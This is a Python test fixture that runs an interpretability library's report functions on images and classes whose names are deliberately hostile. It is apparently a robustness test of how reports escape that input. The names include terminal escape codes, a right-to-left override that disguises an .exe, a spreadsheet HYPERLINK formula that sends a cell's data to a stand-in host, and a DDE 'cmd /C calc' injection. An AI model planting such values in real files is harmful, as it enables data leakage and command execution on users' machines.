"""A small report of every kind, on images and classes with names that nobody can show."""

from copy import deepcopy
from functools import cache

import torch
from torch import nn

from captum_paramsal.repair import AcceptanceRule, CureSettings
from captum_paramsal.report import (
    ComparisonSettings,
    CureReportSettings,
    DoctorSettings,
    ExplainSettings,
    ModelComparisonSettings,
    TriageSettings,
    compare,
    compare_models,
    cure,
    doctor,
    explain,
    triage,
)
from captum_paramsal.sources import LabelledTensors

STRANGE = [
    "a\x1b[31mred\x0b\x07.png",
    "rtl\u202egnp.exe",
    "caf\udce9.png",
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "$\\frac{$",
]
CLASSES = {0: "=1+1", 1: "\ud800$x$", 2: "-1+cmd|' /C calc'!A0 \x1b"}
QUIET = {"batch_size": 12, "show_progress": False}
CURE = CureReportSettings(
    # Nearly whatever happens is kept.
    CureSettings(count=6, steps=20, keep=0.0, rule=AcceptanceRule(level=1.0, most_broken=1.0)),
    alternatives=False,
    **QUIET,
)
KINDS = {
    "explain": lambda *args, **names: explain(
        *args, settings=ExplainSettings(traces=False, keep_pixels=True, cards=2, **QUIET), **names
    ),
    "doctor": lambda *args, **names: doctor(*args, settings=DoctorSettings(confidence=0, cards=2, **QUIET), **names),
    "triage": lambda *args, **names: triage(*args, settings=TriageSettings(**QUIET), **names),
    "compare": lambda *args, **names: compare(
        *args, settings=ComparisonSettings(methods=["random"], metrics=["sparsity"], shown=5, **QUIET), **names
    ),
    "compare_models": lambda model, images, **names: compare_models(
        model,
        _retrained(model),
        images,
        settings=ModelComparisonSettings(explained=2, shown=1, steps=1, **QUIET),
        **names,
    ),
    "cure": lambda model, _, **names: cure(model, _half_right(model), settings=CURE, **names),
}


def _half_right(model):
    """Images of which the model gets every second one wrong."""
    images = torch.rand(80, 3, 8, 8, generator=torch.Generator().manual_seed(0))
    with torch.no_grad():
        predicted = model(images).argmax(dim=1)
    labels = (predicted + torch.arange(80) % 2) % 3
    return LabelledTensors(images, labels, names=[STRANGE[number % 5] for number in range(80)])


def _retrained(model):
    """Another checkpoint of the model."""
    other = deepcopy(model)
    with torch.no_grad():
        for weight in other.parameters():
            weight.add_(0.2 * torch.randn_like(weight))
    return other


@cache
def strange_report(kind):
    torch.manual_seed(0)
    model = nn.Sequential(
        nn.Conv2d(3, 12, 3), nn.ReLU(), nn.AdaptiveAvgPool2d(1), nn.Flatten(), nn.Linear(12, 3)
    ).eval()
    count = 15
    images = torch.rand(count, 3, 8, 8)
    names = [STRANGE[number % 5] for number in range(count)]
    source = LabelledTensors(images, torch.arange(count) % 3, names=names, notes=["@SUM(1)\u202e"] * count)
    return KINDS[kind](model, source, classes=CLASSES)
